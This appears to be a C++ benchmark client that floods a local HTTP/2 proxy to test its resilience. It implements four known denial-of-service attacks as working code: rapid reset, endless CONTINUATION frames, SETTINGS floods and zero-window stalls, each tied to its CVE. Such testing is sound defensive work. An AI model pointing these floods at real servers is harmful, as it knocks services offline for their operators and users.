// One client that misuses HTTP/2 in clear text as fast as it can, in one of the ways that have names.
//   bench_flood PORT KIND CONNECTIONS
//   rapid_reset    requests, each reset at once (CVE-2023-44487)
//   continuation   a header block that never ends (CVE-2024-27316)
//   settings       SETTINGS without end, whose acknowledgements nobody reads (CVE-2019-9515)
//   zero_window    large answers asked for by as many streams as may be, and not a byte of them taken
//   (CVE-2019-9517)
// A connection that the proxy ends is opened anew. Prints `ready`, goes on until it is ended, then prints one
// JSON line: how many connections were ended on it, how many bytes it sent.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <sys/epoll.h>
#include <sys/signalfd.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <csignal>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <string_view>
#include <vector>

namespace {

constexpr size_t kBatchBytes = 16 * 1024;
constexpr uint32_t kLastStream = 0x7fffffff;
constexpr uint32_t kStreamsHeldOpen = 100;  // what most servers allow
constexpr std::string_view kPreface = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

enum class Kind : uint8_t { rapid_reset, continuation, settings, zero_window };
enum Type : uint8_t { kHeaders = 1, kResetStream = 3, kSettings = 4, kContinuation = 9 };
enum Flag : uint8_t { kEndStream = 1, kEndHeaders = 4 };

std::string big_endian(uint32_t value, size_t size) {
  std::string out;
  for (size_t i = size; i-- > 0;) out += static_cast<char>(value >> 8 * i);
  return out;
}

struct FrameHead {
  uint8_t type = 0;
  uint8_t flags = 0;
  uint32_t stream = 0;
};

std::string frame(const FrameHead& head, std::string_view payload) {
  return big_endian(static_cast<uint32_t>(payload.size()), 3) + static_cast<char>(head.type) +
         static_cast<char>(head.flags) + big_endian(head.stream, 4) + std::string(payload);
}

// GET http://bench.test PATH; RFC 7541: indexed fields, and literals that leave no trace.
std::string request(std::string_view path) {
  auto literal = [](char place, std::string_view value) {
    return std::string(1, place) + static_cast<char>(value.size()) + std::string(value);
  };
  return "\x82\x86" + literal(0x04, path) + literal(0x01, "bench.test");
}

struct Connection {
  int socket = -1;
  uint32_t stream = 1;
  std::string output;
};

class Flood {
 public:
  Flood(int port, Kind kind, size_t count)
      : kind_(kind), connections_(count), loop_(epoll_create1(EPOLL_CLOEXEC)) {
    there_.sin_family = AF_INET;
    there_.sin_port = htons(static_cast<uint16_t>(port));
    there_.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  }

  void watch(int descriptor, Connection* source) {
    epoll_event event{};
    event.events = EPOLLIN | (source ? EPOLLOUT | EPOLLRDHUP : 0u);
    event.data.ptr = source;
    epoll_ctl(loop_, EPOLL_CTL_ADD, descriptor, &event);
  }

  void begin_all() {
    for (Connection& connection : connections_) begin(connection);
  }

  // False when it is to end.
  bool turn() {
    epoll_event events[64];
    int count = epoll_wait(loop_, events, 64, -1);
    for (int i = 0; i < count; ++i) {
      auto* connection = static_cast<Connection*>(events[i].data.ptr);
      if (connection == nullptr) return false;
      if (!drain(*connection, events[i].events) || !pour(*connection)) reopen(*connection);
    }
    return true;
  }

  void print() const {
    printf("{\"ended\": %zu, \"sent\": %llu}\n", ended_, static_cast<unsigned long long>(sent_));
  }

 private:
  void begin(Connection& connection) {
    connection = {.socket = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0)};
    if (connect(connection.socket, reinterpret_cast<sockaddr*>(&there_), sizeof(there_)) != 0)
      perror("connect");
    int one = 1;
    setsockopt(connection.socket, IPPROTO_TCP, TCP_NODELAY, &one, sizeof(one));
    const std::string window = kind_ == Kind::zero_window ? std::string("\0\4\0\0\0\0", 6) : "";
    connection.output = std::string(kPreface) + frame({.type = kSettings}, window);
    if (kind_ == Kind::continuation) {
      connection.output += frame({.type = kHeaders, .flags = kEndStream, .stream = 1}, request("/x/small"));
    }
    if (kind_ == Kind::zero_window) {
      for (uint32_t i = 0; i < kStreamsHeldOpen; ++i) {
        connection.output += frame({.type = kHeaders, .flags = kEndStream | kEndHeaders, .stream = 2 * i + 1},
                                   request("/bytes/1048576"));
      }
    }
    watch(connection.socket, &connection);
  }

  void reopen(Connection& connection) {
    ++ended_;
    close(connection.socket);
    begin(connection);
  }

  // What the proxy says is of no interest, only whether it has ended.
  bool drain(Connection& connection, uint32_t events) {
    if (events & (EPOLLHUP | EPOLLERR | EPOLLRDHUP)) return false;
    if (!(events & EPOLLIN) || kind_ == Kind::settings) return true;
    char dropped[64 * 1024];
    return recv(connection.socket, dropped, sizeof(dropped), MSG_DONTWAIT) != 0;
  }

  bool pour(Connection& connection) {
    if (connection.output.empty()) fill(connection);
    if (connection.output.empty()) {  // it has said what it had to say, and stays
      epoll_event event{};
      event.events = EPOLLIN | EPOLLRDHUP;
      event.data.ptr = &connection;
      return epoll_ctl(loop_, EPOLL_CTL_MOD, connection.socket, &event) == 0;
    }
    ssize_t count = send(connection.socket, connection.output.data(), connection.output.size(),
                         MSG_NOSIGNAL | MSG_DONTWAIT);
    if (count < 0) return errno == EAGAIN;
    sent_ += static_cast<uint64_t>(count);
    connection.output.erase(0, static_cast<size_t>(count));
    return connection.stream < kLastStream - kBatchBytes;
  }

  void fill(Connection& connection) {
    static const std::string head = request("/x/small");
    static const std::string settings = frame({.type = kSettings}, std::string("\0\3\0\0\0\x64", 6));
    while (kind_ != Kind::zero_window && connection.output.size() < kBatchBytes) {
      switch (kind_) {
        case Kind::rapid_reset:
          connection.output +=
              frame({.type = kHeaders, .flags = kEndStream | kEndHeaders, .stream = connection.stream},
                    head) +
              frame({.type = kResetStream, .stream = connection.stream}, big_endian(8, 4));  // CANCEL
          connection.stream += 2;
          break;
        case Kind::continuation:
          // x: x, a literal that leaves no trace
          connection.output += frame({.type = kContinuation, .stream = 1}, std::string_view("\0\1x\1x", 5));
          break;
        case Kind::settings:
          connection.output += settings;
          break;
        case Kind::zero_window:
          break;
      }
    }
  }

  Kind kind_;
  std::vector<Connection> connections_;
  int loop_;
  sockaddr_in there_{};
  size_t ended_ = 0;
  uint64_t sent_ = 0;
};

int make_end_descriptor() {
  sigset_t ends;
  sigemptyset(&ends);
  sigaddset(&ends, SIGTERM);
  sigprocmask(SIG_BLOCK, &ends, nullptr);
  return signalfd(-1, &ends, SFD_CLOEXEC);
}

bool kind_of(std::string_view name, Kind& kind) {
  constexpr std::string_view kNames[] = {"rapid_reset", "continuation", "settings", "zero_window"};
  for (size_t i = 0; i < 4; ++i) {
    kind = static_cast<Kind>(i);
    if (kNames[i] == name) return true;
  }
  return false;
}

}  // namespace

int main(int argc, char** argv) {
  Kind kind{};
  if (argc != 4 || !kind_of(argv[2], kind)) return fprintf(stderr, "bench_flood PORT KIND CONNECTIONS\n"), 2;
  Flood flood(atoi(argv[1]), kind, strtoul(argv[3], nullptr, 10));
  flood.watch(make_end_descriptor(), nullptr);
  flood.begin_all();
  puts("ready"), fflush(stdout);
  while (flood.turn()) {
  }
  flood.print();
}
